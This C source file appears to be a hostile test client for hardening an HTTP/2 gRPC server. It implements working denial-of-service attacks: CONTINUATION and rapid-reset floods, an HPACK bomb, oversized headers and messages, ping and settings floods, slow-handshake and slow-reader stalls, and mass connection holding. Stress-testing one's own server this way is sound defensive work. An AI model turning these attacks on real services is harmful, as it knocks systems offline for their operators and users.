/*
 * A hostile client, for integration tests.
 *
 *   hostile MODE TARGET SECONDS [N]
 *
 * TARGET is unix:PATH or tcp:HOST:PORT. Attacks until the time is up, with a new connection
 * whenever the last was ended; then prints "connections C, ended by the other side E, bytes B" and
 * exits with 0. HOSTILE_PATH is the gRPC method that is called, by default
 * /SpiffeWorkloadAPI/FetchX509SVID.
 */
#include <fcntl.h>
#include <signal.h>
#include <sys/resource.h>

#include "lib/mem.h"
#include "tests/h2.h"

static const char *target;
static const char *method = "/SpiffeWorkloadAPI/FetchX509SVID";
static double until;
static long count;
static unsigned long long connections, ended, bytes;

static bool over(void)
{
	return h2_now() >= until;
}

static int connect_again(void)
{
	while (!over()) {
		int fd = h2_connect(target);

		if (fd >= 0) {
			connections++;
			fcntl(fd, F_SETFL, O_NONBLOCK);
			return fd;
		}
		h2_sleep_ms(errno == EMFILE ? 100 : 5);
	}
	return -1;
}

/* Throws away what came. False: the other side has closed. */
static bool drain(int fd)
{
	static char drop[65536];
	ssize_t n;

	do
		n = recv(fd, drop, sizeof(drop), MSG_DONTWAIT);
	while (n > 0);
	return n < 0 && (errno == EAGAIN || errno == EINTR);
}

/* Sends as much as is taken until the time is up. */
static bool push(int fd, struct buf *b, bool reading)
{
	size_t at = 0;

	while (at < b->len && !over()) {
		struct pollfd pfd = { .fd = fd,
			.events = (short)(reading ? POLLIN | POLLOUT : POLLOUT) };
		ssize_t n;

		if (poll(&pfd, 1, 100) <= 0)
			continue;
		if (reading && pfd.revents & POLLIN && !drain(fd))
			break;
		n = send(fd, b->p + at, b->len - at, MSG_NOSIGNAL | MSG_DONTWAIT);
		if (n > 0) {
			at += (size_t)n;
			bytes += (size_t)n;
		} else if (n < 0 && errno != EAGAIN && errno != EINTR) {
			break;
		}
	}
	at = b->len - at;
	buf_reset(b);
	return at == 0;
}

/* ---- one connection of each kind; returns when it has ended or the time is up ---- */

static struct buf out = { .max = (size_t)256 << 20 };

static void wait_for_end(int fd, bool reading)
{
	while (!over()) {
		struct pollfd pfd = { .fd = fd, .events = (short)(reading ? POLLIN : 0) };

		if (poll(&pfd, 1, 100) > 0 && (!drain(fd) || pfd.revents & (POLLHUP | POLLERR)))
			return;
	}
}

static void continuation(int fd)
{
	h2_hello(&out);
	h2_zeros(&out, H2_HEADERS, 0, 1, 100);
	while (push(fd, &out, true) && !over())
		for (int i = 0; i < 64; i++)
			h2_zeros(&out, H2_CONTINUATION, 0, 1, 16000);
}

static void huge_header(int fd)
{
	h2_hello(&out);
	h2_head(&out, 16000, H2_HEADERS, 0, 1);
	/* a literal whose value is announced as 15 MB */
	buf_append(&out, "\x00\x01x\x7f\x81\x9d\x94\x07", 8);
	for (int i = 8; i < 16000; i++)
		buf_byte(&out, 'a');
	while (push(fd, &out, true) && !over())
		h2_zeros(&out, H2_CONTINUATION, 0, 1, 16000);
}

/* Small on the wire, large when unpacked: one entry in the table, named again and again. */
static void hpack_bomb(int fd)
{
	h2_hello(&out);
	for (uint32_t id = 1; push(fd, &out, true) && !over(); id += 2) {
		AUTO_BUF struct buf block = BUF_INIT;

		h2_block(&block, method);
		buf_append(&block, "\x40\x01x\x7f\xa1\x1e", 6); /* with indexing; 4,000 bytes */
		for (int i = 0; i < 4000; i++)
			buf_byte(&block, 'b');
		for (int i = 0; i < 12000; i++)
			buf_byte(&block, 0x80 | 62); /* the newest entry */
		h2_frame(&out, H2_HEADERS, H2_END_HEADERS, id, block.p,
			block.len > 16384 ? 16384 : block.len);
	}
}

static void streams(int fd)
{
	h2_hello(&out); /* our SETTINGS stay without an ACK */
	for (uint32_t id = 1; push(fd, &out, true) && !over();)
		for (int i = 0; i < 100; i++, id += 2)
			h2_open(&out, id, 0, method);
}

static void resets(int fd)
{
	h2_hello(&out);
	for (uint32_t id = 1; push(fd, &out, true) && !over();)
		for (int i = 0; i < 100; i++, id += 2) {
			h2_open(&out, id, 0, method);
			h2_frame(&out, H2_RST_STREAM, 0, id, "\0\0\0\10", 4);
		}
}

/* The server is made to reset, by a WINDOW_UPDATE of zero (PROTOCOL_ERROR). */
static void made_resets(int fd)
{
	h2_hello(&out);
	for (uint32_t id = 1; push(fd, &out, true) && !over();)
		for (int i = 0; i < 100; i++, id += 2) {
			h2_open(&out, id, 0, method);
			h2_zeros(&out, H2_WINDOW_UPDATE, 0, id, 4);
		}
}

static void control(int fd, int type, size_t len, bool reading)
{
	h2_hello(&out);
	while (push(fd, &out, reading) && !over())
		for (int i = 0; i < 1000; i++)
			h2_zeros(&out, type, 0, 0, len);
}

static void pings(int fd)
{
	control(fd, H2_PING, 8, true);
}

static void settings(int fd)
{
	control(fd, H2_SETTINGS, 0, true);
}

/* 4 GB announced, and as much of it sent as is taken. */
static void message(int fd)
{
	h2_hello(&out);
	h2_open(&out, 1, 0, method);
	h2_frame(&out, H2_DATA, 0, 1, "\0\xff\xff\xff\xff", 5);
	while (push(fd, &out, true) && !over())
		h2_zeros(&out, H2_DATA, 0, 1, 16000);
}

static void garbage(int fd)
{
	uint32_t x = (uint32_t)connections * 2654435761U + 1;

	while (push(fd, &out, true) && !over())
		for (int i = 0; i < 1000; i++, x = x * 1664525 + 1013904223)
			buf_append(&out, &x, sizeof(x));
}

/* A ClientHello's header, then nonsense. */
static void tls_garbage(int fd)
{
	uint32_t x = (uint32_t)connections + 1;

	buf_append(&out, "\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03", 11);
	while (push(fd, &out, true) && !over())
		for (int i = 0; i < 1000; i++, x = x * 1664525 + 1013904223)
			buf_append(&out, &x, sizeof(x));
}

static void slow_reader(int fd)
{
	h2_hello(&out);
	for (uint32_t id = 1; id < 120; id += 2)
		h2_call(&out, id, method);
	if (push(fd, &out, false))
		wait_for_end(fd, false);
}

/* Reads nothing, and asks for answers without end. */
static void deaf_calls(int fd)
{
	h2_hello(&out);
	for (uint32_t id = 1; push(fd, &out, false) && !over(); id += 2)
		h2_call(&out, id, method);
}

/* A byte of the preface a second. */
static void slow_handshake(int fd)
{
	for (size_t i = 0; i < 24 && !over(); i++) {
		buf_append(&out, h2_preface + i, 1);
		if (!push(fd, &out, true) || !drain(fd))
			return;
		h2_sleep_ms(1000);
	}
	wait_for_end(fd, true);
}

static const struct {
	const char *name;
	void (*attack)(int fd);
} attacks[] = {
	{ "continuation", continuation },
	{ "huge-header", huge_header },
	{ "hpack-bomb", hpack_bomb },
	{ "streams", streams },
	{ "resets", resets },
	{ "made-resets", made_resets },
	{ "pings", pings },
	{ "settings", settings },
	{ "message", message },
	{ "garbage", garbage },
	{ "tls-garbage", tls_garbage },
	{ "slow-reader", slow_reader },
	{ "deaf-calls", deaf_calls },
	{ "slow-handshake", slow_handshake },
};

/* ---- many connections at once ---- */

enum crowd { CROWD_SILENT, CROWD_IDLE, CROWD_HOLD, CROWD_TLS };

static void greet(int fd, enum crowd kind)
{
	if (kind == CROWD_TLS)
		buf_append(&out, "\x16\x03\x01\x02\x00\x01", 6);
	if (kind == CROWD_IDLE || kind == CROWD_HOLD)
		h2_hello(&out);
	if (kind == CROWD_HOLD)
		h2_call(&out, 1, method);
	push(fd, &out, true);
}

/* Keeps N connections, renewing those that were ended. */
static void crowd(enum crowd kind)
{
	int *fds = xcalloc((size_t)count, sizeof(*fds));

	for (long i = 0; i < count; i++)
		fds[i] = -1;
	while (!over()) {
		for (long i = 0; i < count && !over(); i++) {
			if (fds[i] >= 0 && !drain(fds[i])) {
				close(fds[i]);
				fds[i] = -1;
				ended++;
			}
			if (fds[i] < 0 && (fds[i] = connect_again()) >= 0)
				greet(fds[i], kind);
		}
		h2_sleep_ms(20);
	}
	for (long i = 0; i < count; i++)
		if (fds[i] >= 0)
			close(fds[i]);
	free(fds);
}

static void usage(void)
{
	fprintf(stderr, "usage: hostile MODE unix:PATH|tcp:HOST:PORT SECONDS [N]\nmodes:");
	for (size_t i = 0; i < ARRAY_LEN(attacks); i++)
		fprintf(stderr, " %s", attacks[i].name);
	fprintf(stderr,
		"\nwith N connections at once: silent (nothing is sent), idle (no call), hold (one "
		"call each), slow-tls (half a ClientHello)\n");
	exit(2);
}

static bool run_attack(const char *mode)
{
	for (size_t i = 0; i < ARRAY_LEN(attacks); i++) {
		if (strcmp(mode, attacks[i].name) != 0)
			continue;
		while (!over()) {
			int fd = connect_again();

			if (fd < 0)
				break;
			attacks[i].attack(fd);
			buf_reset(&out);
			ended += !over();
			close(fd);
		}
		return true;
	}
	return false;
}

int main(int argc, char **argv)
{
	static const char *const crowds[] = { "silent", "idle", "hold", "slow-tls" };
	struct rlimit rl;
	bool known = false;

	if (argc < 4)
		usage();
	signal(SIGPIPE, SIG_IGN);
	target = argv[2];
	if (strncmp(target, "unix:", 5) != 0 && strncmp(target, "tcp:", 4) != 0)
		usage();
	until = h2_now() + strtod(argv[3], NULL);
	count = argc > 4 ? strtol(argv[4], NULL, 10) : 1000;
	if (getenv("HOSTILE_PATH"))
		method = getenv("HOSTILE_PATH");
	getrlimit(RLIMIT_NOFILE, &rl);
	rl.rlim_cur = rl.rlim_max;
	setrlimit(RLIMIT_NOFILE, &rl);
	for (size_t i = 0; i < ARRAY_LEN(crowds); i++) {
		if (strcmp(argv[1], crowds[i]) == 0) {
			crowd((enum crowd)i);
			known = true;
		}
	}
	if (!known && !run_attack(argv[1]))
		usage();
	printf("connections %llu, ended by the other side %llu, bytes %llu\n", connections, ended,
		bytes);
	return 0;
}
